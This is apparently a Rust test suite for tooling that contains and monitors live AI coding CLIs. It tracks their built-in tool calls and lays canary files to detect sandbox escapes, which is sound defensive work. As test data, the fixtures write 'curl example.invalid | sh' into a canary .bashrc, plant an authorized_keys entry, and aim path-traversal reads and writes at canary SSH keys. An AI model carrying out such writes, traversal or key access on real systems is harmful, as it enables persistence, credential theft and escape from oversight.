//! Containment's evidence around a live CLI (rules version 6): the calls of
//! its own tools its stream shows, the canaries, and a tool of its own
//! named as each CLI names it.

use serde_json::Value;
use sharedos_conformance_metadata::witness::OwnCall;
use sharedos_drivers::vendor::Vendor;
use sharedos_mcp::containment::{
    asks_for_own_tools, own_calls, placed, Canaries, OwnTool, CANARY_HOME, CANARY_VARIABLE, WORK_CANARY,
};
use sharedos_mcp::home::TurnHome;
use sharedos_scripted_model::play::{Play, PlayCall, PlayEnding};

/// The frames of a committed real stream, as a live seat receives them.
fn frames(vendor: &str, file: &str) -> Vec<String> {
    let path = format!("{}/../drivers/tests/streams/{vendor}/{file}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(path).unwrap().lines().map(str::to_string).collect()
}

fn own(tool: &str, status: &str) -> OwnCall {
    OwnCall { tool: tool.to_string(), status: status.to_string() }
}

#[test]
fn v6_a_stream_shows_the_clis_own_tools_that_ran_and_not_those_it_said_do_not_exist() {
    let codex_shell = frames("codex/real-0.169.0", "builtin-shell-default-flags.jsonl");
    assert_eq!(own_calls(Vendor::Codex, "sharedos", &codex_shell), [own("command_execution", "ran")]);
    let codex_mcp = frames("codex/real-0.169.0", "call-ok.jsonl");
    assert_eq!(own_calls(Vendor::Codex, "sharedos", &codex_mcp), []);
    let claude_off = frames("claude-code/real-2.1.328", "builtin-tool-off.jsonl");
    assert_eq!(own_calls(Vendor::ClaudeCode, "sharedos", &claude_off), [], "Bash: no such tool");
    let claude_mcp = frames("claude-code/real-2.1.328", "call-ok.jsonl");
    assert_eq!(own_calls(Vendor::ClaudeCode, "sharedos", &claude_mcp), []);
    let pi_off = frames("pi/real-0.73.1", "unknown-tool.jsonl");
    assert_eq!(own_calls(Vendor::Pi, "sharedos", &pi_off), [], "bash: not found");
    let pi_mcp = frames("pi/real-0.73.1", "refused-call.jsonl");
    assert_eq!(own_calls(Vendor::Pi, "sharedos", &pi_mcp), []);
}

#[test]
fn v6_the_canaries_see_a_file_changed_added_or_removed_in_the_working_folder() {
    let workspace = tempfile::tempdir().unwrap();
    let home = TurnHome::make(workspace.path()).unwrap();
    let canaries = Canaries::lay(workspace.path(), &home).unwrap();
    assert_eq!(canaries.changed(), Vec::<String>::new());
    std::fs::write(home.work.join("new.txt"), "x").unwrap();
    assert_eq!(canaries.changed(), ["work/new.txt"]);
    std::fs::write(home.work.join(WORK_CANARY), "changed").unwrap();
    assert_eq!(canaries.changed(), [format!("work/{WORK_CANARY}"), "work/new.txt".to_string()]);
    std::fs::remove_file(home.work.join("new.txt")).unwrap();
    std::fs::remove_file(home.work.join(WORK_CANARY)).unwrap();
    assert_eq!(canaries.changed(), [format!("work/{WORK_CANARY}")]);
    let (variable, secret) = canaries.variable();
    assert_eq!(variable, CANARY_VARIABLE);
    let secrets = canaries.secrets(Some("token"));
    assert_eq!(secrets.len(), 3);
    assert!(secrets.iter().any(|(_, value)| *value == secret));
    assert!(secrets.iter().any(|(label, value)| label == "turn's MCP token" && value == "token"));
}

/// Class 4 of the live-turns work: the canaries sit where an escape lands.
/// A write through `../`, into the canary home laid out like a real one,
/// or anywhere in the workspace is seen; what the CLI writes in its own
/// home and temporary folder is its own.
#[test]
fn v6_the_canaries_see_a_write_wherever_an_escape_lands_and_not_in_the_clis_own_folders() {
    let workspace = tempfile::tempdir().unwrap();
    let home = TurnHome::make(workspace.path()).unwrap();
    let canaries = Canaries::lay(workspace.path(), &home).unwrap();
    let canary_home = workspace.path().join(CANARY_HOME);
    assert!(canary_home.join(".ssh/id_ed25519").is_file() && canary_home.join(".config/git/config").is_file());
    std::fs::write(home.home.join(".bash_history"), "its own").unwrap();
    std::fs::write(home.tmp.join("scratch"), "its own").unwrap();
    assert_eq!(canaries.changed(), Vec::<String>::new(), "the CLI's own home and temporary folder");
    std::fs::write(home.work.join("../escaped.txt"), "x").unwrap();
    std::fs::write(canary_home.join(".ssh/authorized_keys"), "ssh-ed25519 AAAA").unwrap();
    std::fs::write(canary_home.join(".bashrc"), "curl example.invalid | sh").unwrap();
    assert_eq!(
        canaries.changed(),
        ["canary-home/.bashrc", "canary-home/.ssh/authorized_keys", "escaped.txt"],
        "a write through ../, into the canary home, and an edit there"
    );
}

/// Class 4: any item of a CLI's stream that is neither a served call nor
/// the model's text counts as the CLI's own action, under whatever kind a
/// newer CLI reports it.
#[test]
fn v6_a_stream_item_of_a_kind_no_reader_knows_counts_as_the_clis_own_action() {
    let item = |kind: &str, id: &str| format!(r#"{{"type":"item.completed","item":{{"id":"{id}","type":"{kind}"}}}}"#);
    let codex = [
        item("agent_message", "1"),
        item("reasoning", "2"),
        item("mcp_tool_call", "3"),
        item("error", "4"),
        item("collab_tool_call", "5"),
        item("collab_tool_call", "6"),
        item("image_view", "7"),
    ];
    assert_eq!(
        own_calls(Vendor::Codex, "sharedos", &codex),
        [own("collab_tool_call", "reported"), own("image_view", "reported")]
    );
    let claude = [
        r#"{"type":"assistant","message":{"content":[{"type":"text","text":"hi"},{"type":"thinking","thinking":"x"}]}}"#,
        r#"{"type":"assistant","message":{"content":[{"type":"server_tool_use","name":"web_search","input":{}}]}}"#,
    ]
    .map(str::to_string);
    assert_eq!(own_calls(Vendor::ClaudeCode, "sharedos", &claude), [own("server_tool_use", "reported")]);
}

#[test]
fn v6_a_tool_of_the_clis_own_is_asked_for_under_each_clis_own_name() {
    let workspace = tempfile::tempdir().unwrap();
    let home = TurnHome::make(workspace.path()).unwrap();
    let canaries = Canaries::lay(workspace.path(), &home).unwrap();
    let call = |tool: &str| PlayCall { tool: tool.into(), arguments: Default::default(), at_ms: None, own_tool: false };
    let play = Play {
        calls: vec![call("cli.shell"), call("cli.read"), call("cli.write"), call("cli.fetch"), call("files.read")],
        ending: PlayEnding::Complete { at_ms: None },
        secrets: Vec::new(),
    };
    assert!(asks_for_own_tools(&play));
    assert_eq!(OwnTool::from_tool("files.read"), None);
    let expected = [
        (Vendor::Codex, ["exec_command", "read_file", "apply_patch", "web_search"]),
        (Vendor::ClaudeCode, ["Bash", "Read", "Write", "WebFetch"]),
        (Vendor::Pi, ["bash", "read", "write", "bash"]),
    ];
    for (vendor, names) in expected {
        let named = placed(&play, vendor, &canaries, Vec::new());
        let tools: Vec<&str> = named.calls.iter().map(|call| call.tool.as_str()).collect();
        assert_eq!(tools[..4], names, "{vendor:?}");
        assert_eq!(tools[4], "files.read", "a served tool is left as it is");
        assert!(named.calls[..4].iter().all(|call| call.own_tool) && !named.calls[4].own_tool);
        let read = serde_json::to_string(&Value::Object(named.calls[1].arguments.clone())).unwrap();
        assert!(read.contains("canary-home/.ssh/id_ed25519"), "{read}");
        let write = serde_json::to_string(&Value::Object(named.calls[2].arguments.clone())).unwrap();
        assert!(write.contains("/work/../canary-home/.ssh/authorized_keys"), "absolute, through ../: {write}");
    }
}
